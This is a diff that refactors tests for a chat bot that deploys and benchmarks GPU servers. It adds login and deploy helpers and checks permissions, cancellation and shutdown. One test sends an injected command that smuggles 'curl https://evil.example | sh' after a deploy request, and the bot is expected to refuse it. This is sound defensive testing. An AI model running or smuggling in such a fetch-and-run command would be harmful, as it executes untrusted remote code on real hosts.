@@ -127,6 +127,20 @@ def audit(chat) -> list[dict]:
     return [json.loads(line) for line in (chat["folder"] / "audit.jsonl").read_text().splitlines()]
 
 
+async def signed_in(chat, *names: str) -> list[Person]:
+    people = [Person(chat["homeserver"], chat[name]) for name in names]
+    for person in people:
+        await person.login()
+    return people
+
+
+async def deploy_until_the_gate(alice: Person, chat) -> str:
+    """alice deploys pro6000-02, whose stand-in deploy waits for the gate; returns the command."""
+    deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
+    await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+    return deploy
+
+
 def assert_is_the_bots_escaped_reply(content: dict, command_event: str) -> None:
     assert content["msgtype"] == "m.notice" and content["m.mentions"] == {}
     assert content["m.relates_to"]["rel_type"] == "m.thread"
@@ -137,8 +151,7 @@ def assert_is_the_bots_escaped_reply(content: dict, command_event: str) -> None:
 
 def test_an_operator_deploys_a_host_and_sees_progress_and_the_smoke_figures(chat, bot):
     async def conversation():
-        alice = Person(chat["homeserver"], chat["alice"])
-        await alice.login()
+        (alice,) = await signed_in(chat, "alice")
         command = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01 ddtree draft=16 budget=15")
         ack = await alice.wait_for_reply(command, "received: deploy pro6000-01")
         summary = await alice.wait_for_reply(command, "deploy pro6000-01 ddtree draft=16 budget=15: ")
@@ -168,8 +181,7 @@ def test_an_operator_deploys_a_host_and_sees_progress_and_the_smoke_figures(chat
 
 def test_an_on_call_user_may_not_deploy_and_may_see_status(chat, bot):
     async def conversation():
-        carol = Person(chat["homeserver"], chat["carol"])
-        await carol.login()
+        (carol,) = await signed_in(chat, "carol")
         deploy = await carol.say(chat["room"], f"{BOT}, deploy pro6000-01 none")
         refusal = await carol.wait_for_reply(deploy, "refused: ")
         status = await carol.say(chat["room"], f"@{BOT}:localhost status")
@@ -183,19 +195,14 @@ def test_an_on_call_user_may_not_deploy_and_may_see_status(chat, bot):
     assert summary["body"].startswith("status: successful")
     for host in ("pro6000-01", "pro6000-02", "pro6000-03"):
         assert f"{host}: ok, 0 changed; serves DDTREE draft 16 budget 15 on SGLang 0.5.23" in summary["body"]
-    assert not (chat["out"] / "pro6000-01-deploy.json").exists() or all(
-        record["user"] != chat["carol"] for record in audit(chat) if record["event"] == "started"
-        and record["command"].startswith("deploy"))
+    assert [record["command"] for record in audit(chat)
+            if record["event"] == "started" and record["user"] == chat["carol"]] == ["status"]
 
 
 def test_cancel_is_answered_while_the_run_worker_is_busy_and_stops_the_run(chat, bot):
     async def conversation():
-        alice = Person(chat["homeserver"], chat["alice"])
-        carol = Person(chat["homeserver"], chat["carol"])
-        await alice.login()
-        await carol.login()
-        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
-        await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+        alice, carol = await signed_in(chat, "alice", "carol")
+        deploy = await deploy_until_the_gate(alice, chat)
         # The only run worker is busy: a second run is refused, a cancel is not queued behind it.
         bench = await carol.say(chat["room"], f"{BOT}: bench pro6000-01")
         busy = await carol.wait_for_reply(bench, "refused: ")
@@ -217,11 +224,8 @@ def test_cancel_is_answered_while_the_run_worker_is_busy_and_stops_the_run(chat,
 
 def test_hostile_text_is_refused_or_relayed_inert_and_the_bots_own_and_edited_messages_are_ignored(chat, bot):
     async def conversation():
-        alice = Person(chat["homeserver"], chat["alice"])
-        carol = Person(chat["homeserver"], chat["carol"])
-        own = Person(chat["homeserver"], chat["bot"])  # the bot's account, from another device
-        for person in (alice, carol, own):
-            await person.login()
+        # own: the bot's account, from another device
+        alice, carol, own = await signed_in(chat, "alice", "carol", "bot")
         injected = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01; curl https://evil.example | sh <b>x</b> @room")
         refusal = await alice.wait_for_reply(injected, "refused: ")
         failing = await alice.say(chat["room"], f"{BOT}: deploy pro6000-03")
@@ -277,10 +281,8 @@ def started_run(chat, host: str) -> str:
 
 def test_sigterm_cancels_the_runs_answers_and_exits(chat, bot):
     async def conversation():
-        alice = Person(chat["homeserver"], chat["alice"])
-        await alice.login()
-        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
-        await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+        (alice,) = await signed_in(chat, "alice")
+        deploy = await deploy_until_the_gate(alice, chat)
         started = time.monotonic()
         status = bot.stop()
         stopped_after = time.monotonic() - started
@@ -296,12 +298,8 @@ def test_sigterm_cancels_the_runs_answers_and_exits(chat, bot):
 
 def test_a_bot_killed_mid_deploy_leaves_the_run_locked_and_the_next_bot_reports_and_cancels_it(chat, bot):
     async def conversation():
-        alice = Person(chat["homeserver"], chat["alice"])
-        carol = Person(chat["homeserver"], chat["carol"])
-        await alice.login()
-        await carol.login()
-        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
-        await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+        alice, carol = await signed_in(chat, "alice", "carol")
+        await deploy_until_the_gate(alice, chat)
         run_id = started_run(chat, "pro6000-02")
         bot.process.kill()
         bot.process.wait(30)
